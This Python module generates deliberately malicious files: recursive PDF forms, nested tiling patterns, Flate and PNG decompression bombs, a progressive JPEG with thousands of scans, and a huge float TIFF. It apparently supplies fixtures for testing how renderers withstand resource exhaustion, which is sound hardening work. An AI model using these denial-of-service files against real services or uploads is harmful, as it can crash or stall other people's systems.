"""Files made to do harm, each as small as it can be: what they cost stands in no relation to their size."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image


def pdf(contents: bytes, resources: bytes = b"", *more: bytes, page: bytes = b"") -> bytes:
    """Return a PDF of one page of a card's size that is drawn by `contents`; `more` objects begin at 5."""
    media = b"/MediaBox[0 0 241 156]"
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R/Resources<<%s>>%s>>" % (media, resources, page),
        stream(contents),
        *more,
    )
    return assembled(objects)


def assembled(objects: tuple[bytes, ...]) -> bytes:
    """Return a PDF of numbered objects, the first of which is its catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj%s endobj\n" % (number, one)
    entries = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, entries)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + table + trailer


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return a stream with what else its dictionary says."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def form(content: bytes, resources: bytes = b"", number: int = 5) -> bytes:
    """Return a form, which a page or another form can draw."""
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 999 999]/Resources<<%s>>" % resources)


def form_in_form() -> bytes:
    """Draw a form that draws another one twice, that one the next, and so on: a billion squares."""
    depth = 28
    forms = [form(b"/F Do /F Do", b"/XObject<</F %d 0 R>>" % (6 + level)) for level in range(depth)] + [
        form(b"0 0 9 9 re f")
    ]
    return pdf(b"/F Do", b"/XObject<</F 5 0 R>>", *forms)


def form_in_itself() -> bytes:
    """Draw a form that draws itself, twice."""
    return pdf(b"/F Do", b"/XObject<</F 5 0 R>>", form(b"/F Do /F Do", b"/XObject<</F 5 0 R>>"))


def tiles() -> bytes:
    """Fill a page with tiles far smaller than a pixel, of a form each."""
    tile = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .0001/YStep .0001"
        b"/Resources<<>>"
    )
    return pdf(b"/Pattern cs /P scn 0 0 241 156 re f", b"/Pattern<</P 5 0 R>>", stream(b"0 0 9 9 re f", tile))


def tiles_in_tiles() -> bytes:
    """Fill a page with tiles that are filled with tiles, and so on."""

    def tile(content: bytes, inner: bytes) -> bytes:
        told = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 99 99]/XStep 1/YStep 1/Resources<<%s>>"
        return stream(content, told % inner)

    fill = b"/Pattern cs /P scn 0 0 99 99 re f"
    inner = [tile(fill, b"/Pattern<</P %d 0 R>>" % number) for number in range(6, 14)]
    return pdf(fill, b"/Pattern<</P 5 0 R>>", *inner, tile(b"0 0 1 1 re f", b""))


def flate_bomb() -> bytes:
    """Draw a page by a stream of half a gigabyte of nothing, packed three times."""
    packed = zlib.compress(b" " * 500_000_000, 9)
    twice = zlib.compress(packed, 9)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 241 156]/Contents[4 0 R 4 0 R 4 0 R 4 0 R 4 0 R 4 0 R]>>",
        stream(twice, b"/Filter[/FlateDecode/FlateDecode]"),
    )
    return assembled(objects)


def many_paths() -> bytes:
    """Stroke two million dashed curves."""
    curves = b"[.01 .01] 0 d 0 0 m " + b"0 156 241 0 241 156 c 241 0 0 156 0 0 c " * 100_000 + b"S"
    packed = zlib.compress(curves * 10, 9)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 241 156]/Contents 4 0 R>>",
        stream(packed, b"/Filter/FlateDecode"),
    )
    return assembled(objects)


def shadings() -> bytes:
    """Paint a page a hundred thousand times by a function that is computed for each pixel."""
    sums = b"{" + b"dup mul 1 add sin " * 2000 + b"pop pop 1 1 1}"
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 241 0 156]/Function 6 0 R>>"
    function = stream(sums, b"/FunctionType 4/Domain[0 241 0 156]/Range[0 1 0 1 0 1]")
    return pdf(b"/S sh " * 100_000, b"/Shading<</S 5 0 R>>", shading, function)


def scans() -> bytes:
    """Return a progressive JPEG of five thousand scans, each of which goes over the whole picture."""
    out = io.BytesIO()
    Image.new("L", (6000, 6000), 200).save(out, "JPEG", progressive=True, quality=30)
    data = out.getvalue()
    first = data.index(b"\xff\xda")
    second = data.index(b"\xff\xda", first + 2)
    third = data.index(b"\xff\xda", second + 2)
    return data[:second] + data[second:third] * 5_000 + b"\xff\xd9"


def chunk(kind: bytes, body: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def palette_missing() -> bytes:
    """Return a PNG whose pixels are numbers of colours that it does not have."""
    head = struct.pack(">IIBBBBB", 200, 120, 8, 3, 0, 0, 0)
    rows = zlib.compress((b"\0" + bytes(range(200))) * 120)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """Return a PNG of few bytes and a hundred megapixels, in one colour."""
    head = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 6, 0, 0, 0)
    rows = zlib.compress(bytes(40_001) * 10_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def float_tiff() -> bytes:
    """Return a TIFF of few bytes and 109 megapixels of floating greys, every strip the same one."""
    side, rows = 10_440, 120
    strip = zlib.compress(bytes(4 * side * rows), 9)
    strips = side // rows
    tags = [(256, 4, side), (257, 4, side), (258, 3, 32), (259, 3, 8), (262, 3, 1), (277, 3, 1)]
    at = 8 + 12 * (len(tags) + 4) + 6
    tags += [(273, 4, at), (278, 4, rows), (279, 4, at + 4 * strips), (339, 3, 3)]
    lists = struct.pack(f"<{strips}I", *[at + 8 * strips] * strips)
    lists += struct.pack(f"<{strips}I", *[len(strip)] * strips)
    counts = {273: strips, 279: strips}
    entries = b"".join(
        struct.pack("<HHII", tag, kind, counts.get(tag, 1), value) for tag, kind, value in tags
    )
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", 0) + lists + strip


FILES: dict[str, Callable[[], bytes]] = {
    "form in form.pdf": form_in_form,
    "form in itself.pdf": form_in_itself,
    "tiles.pdf": tiles,
    "tiles in tiles.pdf": tiles_in_tiles,
    "flate bomb.pdf": flate_bomb,
    "many paths.pdf": many_paths,
    "shadings.pdf": shadings,
    "scans.jpg": scans,
    "no palette.png": palette_missing,
    "bomb.png": png_bomb,
    "float.tif": float_tiff,
}
"""What each is called, and how it is made."""
